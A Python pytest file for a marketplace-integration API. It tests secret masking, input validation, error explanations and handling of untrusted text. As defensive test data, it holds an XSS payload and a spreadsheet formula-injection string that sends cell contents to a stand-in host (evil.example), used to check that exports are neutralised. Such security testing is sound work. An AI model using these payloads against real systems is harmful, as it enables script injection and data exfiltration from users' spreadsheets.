"""Affiliates, explanations and untrusted text: secrets go in and never come out; exports neutralise formulas."""

from __future__ import annotations

import csv
import io
import json

from sqlalchemy import select

from api_fixtures import client_fixture, world_fixture  # noqa: F401
from factories import add_integration
from ponte.store.tables import affiliates, audit_log

SANDBOX = {"base_url": "http://127.0.0.1:1", "client_id": "loja-a", "client_secret": "s3cr3t-do-marketplace"}


def _create(client, world, **values):
    body = {"code": "MGL", "name": "Magalu", "connector": "sandbox", "settings": SANDBOX, **values}
    return client.post("/api/v1/affiliates", json=body, headers=world.auth("ada"))


def test_it_registers_an_affiliate_and_never_returns_its_secret(client, world, db):
    r = _create(client, world)
    assert r.status_code == 201, r.text
    assert "s3cr3t-do-marketplace" not in r.text and r.json()["settings"]["client_secret"] == "••••••"
    listed = client.get("/api/v1/affiliates", headers=world.auth("victor"))
    assert "s3cr3t-do-marketplace" not in listed.text
    with db.read() as conn:
        stored = conn.execute(select(affiliates.c.secrets).where(affiliates.c.code == "MGL")).scalar_one()
        audit = json.dumps([r.detail for r in conn.execute(select(audit_log.c.detail))])
    assert "s3cr3t" not in stored and "s3cr3t" not in audit


def test_it_keeps_a_secret_left_out_of_a_change(client, world, db):
    affiliate_id = _create(client, world).json()["id"]
    r = client.patch(
        f"/api/v1/affiliates/{affiliate_id}", json={"settings": {"client_id": "novo"}}, headers=world.auth("ada")
    )
    assert r.status_code == 200, r.text
    assert r.json()["settings"]["client_id"] == "novo" and r.json()["settings"]["client_secret"] == "••••••"
    with db.read() as conn:
        actions = list(conn.execute(select(audit_log.c.action)).scalars())
    assert "affiliate.update" in actions


def test_it_refuses_bad_affiliate_input_with_the_field(client, world):
    assert _create(client, world, code="a b").json()["field"] == "code"
    assert _create(client, world, connector="nope").json()["field"] == "connector"
    assert _create(client, world, settings={"base_url": "ftp://x"}).status_code == 422
    assert _create(client, world, code="MLB").json()["field"] == "code"  # already exists
    r = client.patch(f"/api/v1/affiliates/{world.a.affiliates['MLB']}", json={"code": "NEW"}, headers=world.auth("ada"))
    assert r.status_code == 422 and r.json()["field"] == "code"


def test_it_tests_a_connection_without_failing_the_request(client, world):
    affiliate_id = _create(client, world).json()["id"]
    r = client.post(f"/api/v1/affiliates/{affiliate_id}/test", headers=world.auth("alice"))
    assert r.status_code == 200 and r.json()["ok"] is False
    assert "s3cr3t" not in r.text


def test_it_explains_an_error_message(client, world):
    r = client.post(
        "/api/v1/explain",
        json={"message": "Os skus não possuem estoque suficiente para integrar o pedido"},
        headers=world.auth("victor"),
    )
    assert r.status_code == 200
    assert r.json()["category"] == "out_of_stock" and r.json()["fix"]["pt-BR"] and r.json()["help"]


def test_the_explanation_leads_to_the_marketplace_article_where_it_has_a_section(client, world):
    message = {"message": "Os skus não possuem estoque suficiente para integrar o pedido"}
    magalu = client.post("/api/v1/explain", json={**message, "connector": "magalu"}, headers=world.auth("victor"))
    assert magalu.json()["help"] == "/help/marketplace/magalu#out_of_stock"
    unknown = client.post("/api/v1/explain", json={**message, "connector": "nowhere"}, headers=world.auth("victor"))
    assert unknown.json()["help"] == "/help/out_of_stock"


def test_it_refuses_an_empty_message_to_explain(client, world):
    r = client.post("/api/v1/explain", json={"message": ""}, headers=world.auth("victor"))
    assert r.status_code == 422 and r.json()["field"] == "message"


def test_it_returns_marketplace_text_as_json_data_never_as_a_page(client, world, db):
    xss = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    with db.write() as conn:
        add_integration(
            conn,
            world.a.account_id,
            flow="product",
            affiliate_id=world.a.affiliates["MLB"],
            entity="XSS-1",
            status="error",
            message=xss,
            category="unmapped",
            disposition="fix",
        )
    r = client.get("/api/v1/integrations", params={"search": "XSS-"}, headers=world.auth("victor"))
    assert r.headers["content-type"] == "application/json"
    assert r.json()["items"][0]["message"] == xss


def test_it_neutralises_formulas_in_exports(client, world, db):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"clique")'
    with db.write() as conn:
        add_integration(
            conn,
            world.a.account_id,
            flow="product",
            affiliate_id=world.a.affiliates["MLB"],
            entity="FORM-1",
            status="error",
            message=formula,
            category="unmapped",
            disposition="fix",
        )
    r = client.get(
        "/api/v1/integrations/export",
        params={"format": "csv", "search": "FORM-", "locale": "en"},
        headers=world.auth("victor"),
    )
    cells = [cell for line in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for cell in line]
    assert formula not in cells and any(cell.endswith(formula) and cell.startswith("'") for cell in cells)
    xlsx = client.get(
        "/api/v1/integrations/export", params={"format": "xlsx", "search": "FORM-"}, headers=world.auth("victor")
    )
    assert xlsx.status_code == 200 and xlsx.content[:2] == b"PK"
